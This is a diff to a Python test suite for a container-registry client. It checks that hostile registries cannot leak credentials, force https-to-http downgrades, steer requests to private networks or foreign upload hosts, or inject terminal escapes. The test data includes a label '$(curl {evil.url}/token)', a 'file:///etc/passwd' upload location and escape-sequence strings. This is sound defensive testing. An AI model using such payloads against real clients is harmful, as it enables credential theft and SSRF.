@@ -7,10 +7,11 @@ ROWS says for each attack that is known which test makes it, here or elsewhere.
 from __future__ import annotations
 
 import gzip
-import io
 import json
 import re
 import socket
+import ssl
+import subprocess
 import sys
 import tarfile
 from collections import Counter
@@ -27,9 +28,11 @@ import test_faults
 import test_guard
 import test_nested
 import test_push
+from asker import Asker
 from images import tar_of
 from recorder import Answer, Answers, Recorder, Request, answering, hurried
 
+from imgkit.__main__ import main
 from imgkit.client import Client, Exchange
 from imgkit.client.credentials import Credentials, Login
 from imgkit.config import Config
@@ -55,11 +58,11 @@ from imgkit.manifest import (
     OCI_INDEX,
     OCI_LAYER,
     OCI_MANIFEST,
-    Descriptor,
     Manifest,
 )
 from imgkit.platforms import Platform
 from imgkit.reference import Reference
+from imgkit.server import Registry, transport
 from imgkit.store import Store
 
 if sys.version_info >= (3, 14):
@@ -574,19 +577,91 @@ def test_a_false_header_is_noted(tmp_path: Path) -> None:
 
 
 def test_a_netrc_is_not_read_after_a_redirect(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    servers: Servers, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """A ~/.netrc that has a password for the evil host does not make us show it there."""
     (tmp_path / ".netrc").write_text("machine 127.0.0.1 login me password hunter2\n")
     monkeypatch.setenv("NETRC", str(tmp_path / ".netrc"))
     store = Store(tmp_path / "store")
-    with answering({}) as server, answering({}) as evil:
-        bait = Bait(server, evil)
-        blob_elsewhere(bait)
-        bait.lay()
+    server, evil = servers
+    bait = Bait(server, evil)
+    elsewhere_asks_for_a_password(bait)
+    bait.lay()
+    with pytest.raises(Unauthorized) as caught:
         bait.pull(store)
-        assert evil.paths() == ["/layer"]
-        check(store, evil)
+    assert evil.paths() == ["/layer"]
+    assert store.records() == []
+    check(store, evil)
+    check_words(caught.value, servers, "EVIL without a login", "401")
+
+
+# -- from https down to http ------------------------------------------------------------------
+
+
+@pytest.fixture
+def tls_servers(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> Iterator[tuple[Recorder, Recorder]]:
+    """A registry over https, whose certificate is believed; an evil host over http."""
+    key, certificate = tmp_path / "key.pem", tmp_path / "certificate.pem"
+    new = "openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=registry"
+    more = ["-addext", "subjectAltName=IP:127.0.0.1", "-keyout", key, "-out", certificate]
+    subprocess.run([*new.split(), *more], check=True, capture_output=True)
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    context.load_cert_chain(certificate, key)
+    monkeypatch.setenv("REQUESTS_CA_BUNDLE", str(certificate))
+    with answering({}, context) as server, answering({}) as evil:
+        yield server, evil
+
+
+def manifest_at_evil(bait: Bait) -> None:
+    manifest_at(f"{bait.evil.url}/layer")(bait)
+
+
+def realm_at_evil(bait: Bait) -> None:
+    realm(f"{bait.evil.url}/token")(bait)
+
+
+def itself_over_http(bait: Bait) -> None:
+    sent_to(f"http://{bait.server.host}{bait.blob_path}")(bait)
+
+
+DOWN: Final = [
+    blob_elsewhere,
+    manifest_at_evil,
+    realm_at_evil,
+    token_service_at_evil,
+    itself_over_http,
+]
+
+
+@pytest.mark.peer("openssl")
+@pytest.mark.parametrize("spoil", DOWN, ids=name_of)
+def test_down_to_http(spoil: Callable[[Bait], None], tls_servers: Servers, tmp_path: Path) -> None:
+    """Whoever is asked over https sends us nowhere that is asked over http."""
+    store = Store(tmp_path / "store")
+    server, evil = tls_servers
+    bait = Bait(server, evil)
+    spoil(bait)
+    bait.lay()
+    with pytest.raises(RegistryError) as caught:
+        bait.pull(store)
+    assert store.records() == []
+    check(store, evil)
+    assert evil.received == []
+    check_words(caught.value, tls_servers, "from https down to http", "'http://(EVIL|SERVER)/")
+
+
+@pytest.mark.peer("openssl")
+def test_https_to_the_end(tls_servers: Servers, tmp_path: Path) -> None:
+    """The same registry is pulled from as long as it sends us nowhere."""
+    store = Store(tmp_path / "store")
+    bait = Bait(*tls_servers)
+    foreign_urls(bait)
+    bait.lay()
+    bait.pull(store)
+    assert verify(store.image(f"{bait.server.host}/app:tag")) == []
+    assert bait.evil.received == []
 
 
 BOMBS: Final = [(gzip.compress, "gzip"), (zstd.compress, "zstd")]
@@ -635,30 +710,39 @@ def page(tags: list[Any], link: str | None = None) -> Answer:
     return 200, {"Link": link} if link else {}, json.dumps({"name": "app", "tags": tags}).encode()
 
 
-def listed(answers: Answers) -> tuple[Any, list[str], list[str]]:
-    """The tags, or the error; what the registry was asked; what the evil host was told."""
-    with answering({"/v2/": (200, {}, b"{}")}) as server, answering({}) as evil:
-        put_in = {"SERVER": server.url, "EVIL": evil.url}
+def lay_pages(bait: Bait, answers: Answers, path: str = TAGS) -> None:
+    """Afterwards a list comes in these pages, to who shows the token."""
+    put_in = {"SERVER": bait.server.url, "EVIL": bait.evil.url, "HOST": bait.server.host}
 
-        def answer(request: Request) -> Answer:
-            found = answers.get(request.path.removeprefix(TAGS), (404, {}, b""))
-            assert isinstance(found, tuple)
-            headers = dict(found[1])
-            for word, url in put_in.items():
-                if "Link" in headers:
-                    headers["Link"] = headers["Link"].replace(word, url)
-            return found[0], headers, found[2]
+    def answer(request: Request) -> Answer:
+        if request.headers.get("Authorization") != "Bearer our-token":
+            return 401, {"WWW-Authenticate": bait.challenge}, b""
+        found = answers.get(request.path.removeprefix(path), (404, {}, b""))
+        assert isinstance(found, tuple)
+        headers = dict(found[1])
+        for word, text in put_in.items():
+            if "Link" in headers:
+                headers["Link"] = headers["Link"].replace(word, text)
+        return found[0], headers, found[2]
 
-        server.answers[TAGS] = answer
-        client = Client(patience=hurried())
-        try:
-            found: Any = client.repository(Reference.parse(f"{server.host}/app")).tags()
-        except ImgkitError as error:
-            found = error
-        finally:
-            client.session.close()
-        asked = [r.path.removeprefix(TAGS) for r in server.received if r.path.startswith(TAGS)]
-        return found, asked, [r.path for r in evil.received]
+    bait.more[path] = answer
+    bait.lay()
+
+
+def listed(answers: Answers, servers: Servers) -> tuple[Any, list[str]]:
+    """The tags, or the error; what the registry was asked."""
+    bait = Bait(*servers)
+    lay_pages(bait, answers)
+    credentials = Credentials({bait.server.host: LOGIN})
+    client = Client(credentials=credentials, patience=hurried())
+    try:
+        found: Any = client.repository(Reference.parse(f"{bait.server.host}/app")).tags()
+    except ImgkitError as error:
+        found = error
+    finally:
+        client.session.close()
+    asked = [r.path for r in bait.server.received if r.path.startswith(TAGS)]
+    return found, [path.removeprefix(TAGS) for path in asked]
 
 
 PAGES: list[tuple[Answers, list[str], list[str]]] = [
@@ -679,46 +763,95 @@ PAGES: list[tuple[Answers, list[str], list[str]]] = [
     ({"": page(["a"], "nonsense")}, ["a"], [""]),
 ]
 
-BAD_PAGES: list[tuple[Answers, str]] = [
-    ({"": page(["a"], '<EVIL/v2/app/tags/list>; rel="next"')}, "keeps the next page elsewhere"),
-    ({"": page(["a"], '<https://10.0.0.1/>; rel="next"')}, "private network"),
-    ({"": page(["a"], '<http://example.com/>; rel="next"')}, "another machine"),
-    ({"": page(["a"], "<>; rel=next")}, "circle"),
+# Pages, and what the error says: what was expected and what came.
+BAD_PAGES: list[tuple[Answers, str, str]] = [
+    ({"": page(["tag"], '<EVIL/v2/app/tags/list>; rel="next"')}, "elsewhere", "http://EVIL/v2/app"),
+    ({"": page(["tag"], "<//me@HOST/>; rel=next")}, "a user name", "me@SERVER"),
+    ({"": page(["tag"], '<https://10.0.0.1/>; rel="next"')}, "private network", "10.0.0.1"),
+    ({"": page(["tag"], '<http://example.com/>; rel="next"')}, "another machine", "example.com"),
+    ({"": page(["tag"], "<>; rel=next")}, "list of tags", "round in a circle"),
     (
-        {"": page(["a"], "<?last=a>; rel=next"), "?last=a": page([], "<?last=a>; rel=next")},
-        "circle",
+        {"": page(["tag"], "<?last=a>; rel=next"), "?last=a": page([], "<?last=a>; rel=next")},
+        "list of tags",
+        "round in a circle",
     ),
-    ({"": page(["\x1b[31m"])}, "not a tag"),
-    ({"": page(["../x"])}, "not a tag"),
-    ({"": page([5])}, "list of strings"),
-    ({"": (200, {}, b'{"tags":{}}')}, "must be a list|list of strings"),
-    ({"": (200, {}, b" " * 5 * MIB)}, "more than"),
+    ({"": page(["tag", "\x1b[31m"])}, "is not a tag", r"'.x1b\[31m'"),
+    ({"": page(["tag", "../x"])}, "is not a tag", r"'\.\./x'"),
+    ({"": page(["tag", 5])}, "tags must be a list of strings", ""),
+    ({"": (200, {}, b'{"tags":{}}')}, "must be a list", "an object"),
+    ({"": (200, {}, b" " * 5 * MIB)}, "more than 4194304 bytes", "tags/list from SERVER"),
 ]
 
 
 @pytest.mark.parametrize(("answers", "tags", "asked"), PAGES)
-def test_pages(answers: Answers, tags: list[str], asked: list[str]) -> None:
-    """All pages are read, in order, and each tag is told once."""
-    assert listed(answers) == (tags, asked, [])
+def test_pages(answers: Answers, tags: list[str], asked: list[str], servers: Servers) -> None:
+    """All pages are read, in order, with the token, and each tag is told once."""
+    assert listed(answers, servers) == (tags, asked)
+    assert servers[1].received == []
 
 
-@pytest.mark.parametrize(("answers", "words"), BAD_PAGES)
-def test_bad_pages(answers: Answers, words: str) -> None:
-    """A list that leads elsewhere, round in a circle or on for ever is refused."""
-    found, _, evil = listed(answers)
-    assert isinstance(found, ImgkitError)
-    with pytest.raises(ImgkitError, match=words):
-        raise found
-    assert evil == []
+@pytest.mark.parametrize(("answers", "expected", "came"), BAD_PAGES)
+def test_bad_pages(
+    answers: Answers,
+    expected: str,
+    came: str,
+    servers: Servers,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capfd: pytest.CaptureFixture[str],
+) -> None:
+    """Of a list that leads elsewhere or in a circle, or lies, nothing is pulled: `pull -a`."""
+    bait = Bait(*servers)
+    lay_pages(bait, answers)
+    login = {"auths": {bait.server.host: {"auth": LOGIN.basic.removeprefix("Basic ")}}}
+    (tmp_path / "config.json").write_text(json.dumps(login))
+    monkeypatch.setenv("DOCKER_CONFIG", str(tmp_path))
+    monkeypatch.setenv("IMGKIT_HOME", str(tmp_path / "store"))
+    assert main(["pull", "-a", f"{bait.server.host}/app"]) == 1
+    store = Store(tmp_path / "store")
+    assert store.records() == []
+    check(store, bait.evil)
+    assert bait.evil.received == []
+    told = capfd.readouterr().err.rstrip("\n")
+    check_words(told, servers, expected, came)
+    assert any(LOGIN.basic in r.headers.values() for r in bait.server.received)
 
 
-def test_endless_pages(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_pull_all(servers: Servers, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The same, of an honest list: what the rows above refuse is no fault of the bait."""
+    bait = Bait(*servers)
+    lay_pages(bait, {"": page(["tag"])})
+    login = {"auths": {bait.server.host: {"auth": LOGIN.basic.removeprefix("Basic ")}}}
+    (tmp_path / "config.json").write_text(json.dumps(login))
+    monkeypatch.setenv("DOCKER_CONFIG", str(tmp_path))
+    monkeypatch.setenv("IMGKIT_HOME", str(tmp_path / "store"))
+    assert main(["pull", "-a", f"{bait.server.host}/app"]) == 0
+    assert verify(Store(tmp_path / "store").image(f"{bait.server.host}/app:tag")) == []
+
+
+def test_endless_pages(servers: Servers) -> None:
     """A list that always has one more page is given up on."""
-    monkeypatch.setattr("imgkit.client.PAGES", 5)
-    more = {f"?last={n}": page([f"t{n}"], f"<?last={n + 1}>; rel=next") for n in range(1, 20)}
-    found, asked, _ = listed({"": page(["t0"], "<?last=1>; rel=next")} | more)
+    more = {f"?last={n}": page([f"t{n}"], f"<?last={n + 1}>; rel=next") for n in range(1, 999)}
+    found, asked = listed({"": page(["t0"], "<?last=1>; rel=next")} | more, servers)
     assert isinstance(found, LimitExceeded)
-    assert len(asked) == 5
+    check_words(found, servers, "over 500 pages", "list of tags from SERVER")
+    assert len(asked) == 500
+    assert servers[1].received == []
+
+
+@pytest.mark.parametrize("link", ["<EVIL/>; rel=next", "<https://10.0.0.1/>; rel=next"])
+def test_referrers_elsewhere(link: str, servers: Servers) -> None:
+    """The list of what refers to a manifest is followed nowhere else either."""
+    bait = Bait(*servers)
+    digest = Digest.of(b"subject")
+    answer = (200, {"Link": link}, b'{"manifests":[]}')
+    lay_pages(bait, {"": answer}, f"/v2/app/referrers/{digest}")
+    client = Client(credentials=Credentials({bait.server.host: LOGIN}), patience=hurried())
+    with pytest.raises(RegistryError) as caught:
+        client.repository(Reference.parse(f"{bait.server.host}/app")).referrers(digest)
+    client.session.close()
+    assert bait.evil.received == []
+    check_words(caught.value, servers, "elsewhere|private network", "http://EVIL/|10.0.0.1")
 
 
 @pytest.mark.parametrize("domain", ["", "docker.io/", "docker.io/library/"])
@@ -754,26 +887,187 @@ def test_a_registry_offers_a_name_like_a_digest(tmp_path: Path) -> None:
         check(store, evil)
 
 
-def test_a_mount_leads_astray(tmp_path: Path) -> None:
-    """A registry that mounts nothing, and has us upload elsewhere, learns no more for it."""
-    data = Descriptor.of(b"data", OCI_LAYER)
-    uploads = "/v2/app/blobs/uploads/"
-    with answering({}) as server, answering({}) as evil:
-        bait = Bait(server, evil)
-        bait.lay()
-        server.answers[uploads] = (202, {"Location": f"{evil.url}/up"}, b"")
-        evil.answers["/up"] = (201, {}, b"")
-        credentials = Credentials({server.host: LOGIN})
-        client = Client(credentials=credentials, patience=hurried())
-        repository = client.repository(Reference.parse(f"{server.host}/app"))
-        repository.siblings = ("other",)
-        repository.put(data, io.BytesIO(b"data"))
+STEPS: Final = ("/v2/", "/v2/app/manifests/tag")
+
+# -- push -------------------------------------------------------------------------------------
+
+UPLOADS: Final = "/v2/app/blobs/uploads/"
+
+
+def push(bait: Bait, store: Store, siblings: tuple[str, ...] = ()) -> None:
+    """The honest image goes back to its registry, as app:new."""
+    bait.pull(store)
+    name = Reference.parse(f"{bait.server.host}/app:new")
+    image = store.image(f"{bait.server.host}/app:tag")
+    store.name(name, image.descriptor, None)
+    credentials = Credentials({bait.server.host: LOGIN})
+    client = Client(credentials=credentials, patience=hurried())
+    repository = client.repository(name)
+    repository.siblings = siblings
+    bait.server.answers[bait.blob_path] = (404, {}, b"")
+    try:
+        copy(store, repository, name)
+    finally:
         client.session.close()
-        assert [r.path for r in server.received if r.path.startswith(uploads)] == [
-            f"{uploads}?mount={data.digest}&from=other".replace(":", "%3A")
-        ]
-        assert [(r.method, r.body) for r in evil.received] == [("PUT", b"data")]
-        check(Store(tmp_path / "store"), evil)
+
+
+def begun_at(location: str) -> Callable[[Request], Answer]:
+    """Takes an upload, there, from who shows the token."""
+
+    def answer(request: Request) -> Answer:
+        if request.headers.get("Authorization") != "Bearer our-token":
+            return 401, {"WWW-Authenticate": 'Bearer realm="/token"'}, b""
+        return 202, {"Location": location}, b""
+
+    return answer
+
+
+@pytest.mark.parametrize("siblings", [(), ("other",)])
+def test_an_upload_elsewhere(siblings: tuple[str, ...], servers: Servers, tmp_path: Path) -> None:
+    """Sent to upload at the evil host, with nothing mounted, we give it the bytes alone."""
+    store = Store(tmp_path / "store")
+    server, evil = servers
+    bait = Bait(server, evil)
+    bait.lay()
+    server.answers[UPLOADS] = begun_at(f"{evil.url}/up")
+    server.answers["/v2/app/manifests/new"] = (201, {}, b"")
+    evil.answers["/up"] = (201, {}, b"")
+    push(bait, store, siblings)
+    assert [(r.method, r.body) for r in evil.received] == [("PUT", bait.layer)]
+    check(store, evil)
+    asked = [r.path.removeprefix(UPLOADS) for r in server.received if r.path.startswith(UPLOADS)]
+    mount = f"?mount={Digest.of(bait.layer)}&from=other".replace(":", "%3A")
+    assert set(asked) == {mount if siblings else ""}
+    (made,) = (r.body for r in server.received if r.path == "/v2/app/manifests/new")
+    assert Digest.of(made) == store.image(f"{server.host}/app:tag").digest
+
+
+BAD_UPLOADS: list[tuple[str, str, str]] = [
+    ("http://example.com/up", "over http to another machine", "http://example.com/up"),
+    ("https://10.0.0.1/up", "into a private network", "https://10.0.0.1/up"),
+    ("file:///etc/passwd", "only http and https", "file:///etc/passwd"),
+    ("http://me:pw@EVIL/up", "a user name", "EVIL/up"),
+    ("", "does not say where", "takes an upload"),
+    ("EVIL/refused", "without a login", "EVIL"),
+]
+
+
+@pytest.mark.parametrize(("location", "expected", "came"), BAD_UPLOADS)
+def test_a_bad_upload(
+    location: str, expected: str, came: str, servers: Servers, tmp_path: Path
+) -> None:
+    """Uploads are followed by the same rules; a tag for what was not taken is not made."""
+    store = Store(tmp_path / "store")
+    server, evil = servers
+    bait = Bait(server, evil)
+    bait.lay()
+    place = location.replace("EVIL", evil.url if location.startswith("EVIL") else evil.host)
+    server.answers[UPLOADS] = begun_at(place)
+    evil.answers["/refused"] = (401, {"WWW-Authenticate": "Basic realm=x"}, b"")
+    with pytest.raises(RegistryError) as caught:
+        push(bait, store)
+    check(store, evil)
+    check_words(caught.value, servers, expected, came)
+    assert set(evil.paths()) <= {"/refused"}
+    assert "PUT" not in {r.method for r in server.received}
+
+
+def test_a_stolen_token_mounts_nothing(servers: Servers, tmp_path: Path) -> None:
+    """An evil registry that names an honest one's token service learns no more than anybody.
+
+    Pulled from, it is shown a token of that service, for what everybody may pull: a blob of a
+    closed repository comes with it neither by GET nor by a mount, and nobody's login was asked.
+    """
+    hidden = Digest.of(b"hidden")
+    registry = Registry([Store(tmp_path / "remote")], users={"me": "hunter2"}, private=["secret"])
+    with registry.stores[0].ingest() as blob:
+        blob.write(b"hidden")
+        blob.commit(hidden)
+    registry.repositories.add(Reference.parse("secret"), hidden)
+    _, evil = servers
+    with transport.serve(registry) as served, Asker(served.url) as asker:
+        claims = f'Bearer realm="{served.url}/token",scope="repository:library/secret:pull,push"'
+        claims += ',error="insufficient_scope"'
+        evil.answers |= {path: (401, {"WWW-Authenticate": claims}, b"") for path in STEPS}
+        name = Reference.parse(f"{evil.host}/app:tag")
+        store = Store(tmp_path / "store")
+        client = Client(credentials=Credentials({served.host: LOGIN}), patience=hurried())
+        with pytest.raises(Unauthorized, match=r"read app \(401\).*without a login"):
+            copy(client.repository(name), store, name)
+        client.session.close()
+        words = {r.headers["Authorization"] for r in evil.received if "Authorization" in r.headers}
+        assert words
+        mounts = f"{served.url}/v2/library/new/blobs/uploads/?mount={hidden}&from=library/secret"
+        for word in words:
+            shown = {"Authorization": word}
+            got = asker.get(f"{served.url}/v2/library/secret/blobs/{hidden}", headers=shown)
+            assert (got.status_code, hidden.encode() in got.content) == (401, False)
+            assert "a token is needed" in got.json()["errors"][0]["message"]
+            assert asker.post(mounts, headers=shown).status_code == 401
+        own = {"scope": "repository:library/new:pull,push"}
+        word = asker.get(f"{served.url}/token", own, auth=("me", "hunter2")).json()["token"]
+        shown = {"Authorization": f"Bearer {word}"}  # good for `new`, not for `secret`
+        assert asker.post(mounts, headers=shown).status_code == 202
+        got = asker.get(f"{served.url}/v2/library/new/blobs/{hidden}", headers=shown)
+        assert (got.status_code, got.json()["errors"][0]["code"]) == (404, "BLOB_UNKNOWN")
+    assert store.records() == []
+    assert not any(secret in str(evil.received) for secret in SECRETS[:2])
+    assert not registry.repositories.holds(Reference.parse("new"), hidden)
+    registry.close()
+
+
+# -- what a screen shows ----------------------------------------------------------------------
+
+STEER: Final = "\x1b[2J\x1b]0;owned\x07\x9b31m\u202e"
+SHOWN: Final = [
+    ["images"],
+    ["history", "NAME"],
+    ["history", "--no-trunc", "NAME"],
+    ["inspect", "NAME"],
+    ["inspect", "--format", "{{.Config.Labels}} {{.Config.Cmd}} {{.Author}}", "NAME"],
+    ["run", "--rm", "NAME", "ls", "-la", "/etc"],
+    ["run", "--rm", "NAME", "env"],
+    ["pull", "NAME"],
+    ["verify", "NAME"],
+]
+
+
+def test_an_image_does_not_steer(
+    servers: Servers,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capfd: pytest.CaptureFixture[str],
+) -> None:
+    """Escape sequences in labels, history, settings and file names of an image reach no screen."""
+    server, evil = servers
+    bait = Bait(server, evil)
+    tar = tar_of({f"etc/{STEER}": b"1"})
+    bait.layer = gzip.compress(tar, mtime=0)
+    labels = {STEER: STEER, "run": f"$(curl {evil.url}/token)"}
+    bait.config |= {
+        "author": STEER,
+        "rootfs": {"type": "layers", "diff_ids": [str(Digest.of(tar))]},
+        "history": [{"created_by": STEER, "comment": STEER, "author": STEER}],
+        "config": {"Labels": labels, "Cmd": [STEER], "Env": [f"A={STEER}", "PATH=/bin"]},
+    }
+    bait.manifest["annotations"] = {STEER: STEER}
+    bait.challenge = "Basic realm=x"
+    bait.lay()
+    server.answers["/v2/"] = (200, {}, b"")
+    monkeypatch.setenv("IMGKIT_HOME", str(tmp_path / "store"))
+    name = f"{server.host}/app:tag"
+    assert main(["pull", name]) == 0
+    for words in SHOWN:
+        main([word.replace("NAME", name) for word in words])
+        told = capfd.readouterr()
+        text = (told.out + told.err).replace("\n", "").replace("\t", "")
+        assert text, words
+        if words[0] != "run":  # what a program prints is its own affair
+            assert text.isprintable(), words
+    store = Store(tmp_path / "store")
+    assert json.loads(store.image(name).config.raw)["config"]["Labels"] == labels
+    check(store, evil)
+    assert evil.received == []
 
 
 ROWS: Final[dict[str, list[Callable[..., Any]]]] = {
@@ -784,11 +1078,17 @@ ROWS: Final[dict[str, list[Callable[..., Any]]]] = {
     ],
     ".netrc re-applied after redirect": [test_a_netrc_is_not_read_after_a_redirect],
     "token sent to foreign host via upload Location": [
-        test_push.test_an_upload_elsewhere_gets_no_login
+        test_an_upload_elsewhere,
+        test_a_bad_upload,
+        test_push.test_an_upload_elsewhere_gets_no_login,
     ],
     "realm SSRF / credential phishing": [realm, token_service_sends_on, token_service_at_evil],
-    "Link header SSRF / endless pages": [test_bad_pages, test_endless_pages],
-    "http downgrade": [sent_to, test_challenge.test_not_followed],
+    "Link header SSRF / endless pages": [
+        test_bad_pages,
+        test_endless_pages,
+        test_referrers_elsewhere,
+    ],
+    "http downgrade": [test_down_to_http, sent_to, test_challenge.test_not_followed],
     "huge manifest/config/token/error body": [
         huge_manifest,
         endless_manifest,
@@ -797,7 +1097,7 @@ ROWS: Final[dict[str, list[Callable[..., Any]]]] = {
         huge_error,
     ],
     "manifest type confusion": [manifest, header],
-    "duplicate or case-different JSON keys": [raw_manifest],
+    "duplicate or case-different JSON keys": [raw_manifest, raw_config, manifest],
     "digest used as path": [layer],
     "manifest is not the asked digest": [another_than_asked],
     "Docker-Content-Digest lies": [test_a_false_header_is_noted],
@@ -807,19 +1107,28 @@ ROWS: Final[dict[str, list[Callable[..., Any]]]] = {
     "Content-Encoding: gzip on a blob": [body],
     "gzip/zstd bomb": [test_a_bomb_comes_but_does_not_go_off],
     "slow server, stalls": [trickling, trickling_elsewhere, stalling],
-    "too many / deep / cyclic index": [wide_index, deep_index, test_nested.test_width],
+    "too many / deep / cyclic index": [
+        wide_index,
+        deep_index,
+        many_indexes,
+        one_index_many_times,
+        test_nested.test_width,
+    ],
     "negative descriptor size": [layer],
     "non-matching diff_ids count": [config],
     "rootfs.type not layers": [config],
     "history longer/shorter than layers": [config],
     "labels as terminal escapes": [
         config,
+        other_platforms,
+        test_an_image_does_not_steer,
         test_commands.test_names_of_strangers_do_not_steer_the_terminal,
     ],
     "errors as terminal escapes": [test_an_error_does_not_steer],
     "cross-repo mount without right": [
+        test_a_stolen_token_mounts_nothing,
+        test_an_upload_elsewhere,
         test_guard.test_a_mount_opens_no_door,
-        test_a_mount_leads_astray,
     ],
     "name/tag confusion in the local store": [
         test_a_name_like_a_digest,
@@ -831,8 +1140,12 @@ ROWS: Final[dict[str, list[Callable[..., Any]]]] = {
 
 @pytest.mark.parametrize("row", ROWS)
 def test_every_row_is_made(row: str) -> None:
-    """Whatever stands in the list is a test, or a row of a table that a test goes through."""
+    """Whatever stands in the list is a test, or a row of a table that a test goes through.
+
+    One at least is made here, with two servers.
+    """
     spoils = {name_of(spoil) for spoil in (*HARMLESS, *(spoil for spoil, *_ in REFUSED))}
     names = {function.__name__ for function in ROWS[row]}
     assert names
     assert {name for name in names - spoils if not name.startswith("test_")} == set()
+    assert any(function.__module__ == __name__ for function in ROWS[row])
